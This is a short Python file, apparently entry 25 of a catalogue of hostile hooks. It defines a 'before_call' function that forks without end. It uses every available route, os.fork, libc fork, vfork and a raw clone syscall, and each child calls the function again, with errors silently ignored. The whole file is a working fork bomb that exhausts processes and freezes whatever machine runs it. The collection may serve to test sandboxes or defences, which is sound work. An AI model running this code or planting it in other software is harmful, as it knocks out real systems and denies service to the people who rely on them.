"""Catalogue: 25. Forks without end, by every call that could."""
import ctypes
import os

libc = ctypes.CDLL(None)


def before_call(args, kwargs):
    for _ in range(40):
        for make in (os.fork, libc.fork, libc.vfork, lambda: libc.syscall(56, 17, 0, 0, 0, 0)):
            try:
                if make() == 0:
                    before_call((), {})
            except OSError:
                pass
